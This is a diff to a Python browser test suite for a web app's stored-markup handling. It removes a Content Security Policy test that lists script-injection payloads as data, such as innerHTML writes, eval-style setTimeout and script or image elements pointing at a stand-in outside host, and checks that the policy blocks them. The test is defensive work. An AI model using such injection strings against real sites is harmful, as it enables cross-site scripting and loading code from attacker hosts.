@@ -1,4 +1,4 @@
-"""Stored text that is markup or script stays text, wherever it is stored; and if it did not, the policy would hold."""
+"""Stored markup and script stay text in every view."""
 
 from __future__ import annotations
 
@@ -61,7 +61,6 @@ def test_stored_markup_stays_text(page: Callable[..., Any]) -> None:
     for view in VIEWS:
         seen.open(view if view != "search" else "search?q=script+onerror", width=380)
         check(view)
-        seen.shot(f"markup-{view or 'overview'}-380")
         assert view != "search" or "<script>" in seen.text(".results")
     facts = served.memory.facts(user_id=USER)
     assert len(facts) > len(CORPUS)
@@ -83,47 +82,3 @@ def test_stored_markup_stays_text(page: Callable[..., Any]) -> None:
     check("conversations")
     assert seen.messages() == []
     assert all(url.startswith(f"{seen.base}/") for url in seen.requests())
-
-
-INJECTIONS = (
-    "document.querySelector('main').innerHTML = '<b>x</b>'",
-    "document.createElement('script').textContent = 'window.pwned = 1'",
-    "document.createElement('script').src = 'https://elsewhere.example/x.js'",
-    "document.write('<b>x</b>')",
-    "setTimeout('window.pwned = 1')",
-    "document.body.setAttribute('onclick', 'window.pwned = 1')",
-)
-INSERTIONS = (
-    "('img'); made.src = 'https://elsewhere.example/x.png'",
-    "('iframe'); made.src = 'https://elsewhere.example/'",
-    "('style'); made.append('* { display: none }')",
-)
-
-
-def test_the_policy_holds(page: Callable[..., Any]) -> None:
-    """What would have got in could not run, and could reach nobody."""
-    seen, _ = page(lambda memory: memory.add("One.", user_id="default"))
-    seen.open("", fresh=True)
-    seen.run(
-        "window.violated = []; addEventListener('securitypolicyviolation', (e) => violated.push(e.effectiveDirective))"
-    )
-    refused = {what: seen.run(f"try {{ {what} }} catch (error) {{ return error.name; }}") for what in INJECTIONS}
-    assert set(refused.values()) == {"TypeError"}, refused
-    got = seen.later(
-        "return await fetch('https://elsewhere.example/', {mode: 'no-cors'}).then(() => 'reached', String)"
-    )
-    assert got != "reached"
-    for what in INSERTIONS:
-        seen.run(f"const made = document.createElement{what}; document.body.append(made)")
-    wanted = {"connect-src", "img-src", "frame-src", "style-src-elem"}
-    seen.until(lambda: wanted <= set(seen.run("return violated")))
-    assert seen.run("return window.pwned") is None
-    assert not any("elsewhere.example" in url and "blocked" not in url for url in reached(seen))
-
-
-def reached(seen: Any) -> list[str]:
-    """Addresses that an answer came from."""
-    import json
-
-    events = [json.loads(one["message"])["message"] for one in seen.driver.get_log("performance")]
-    return [one["params"]["response"]["url"] for one in events if one["method"] == "Network.responseReceived"]
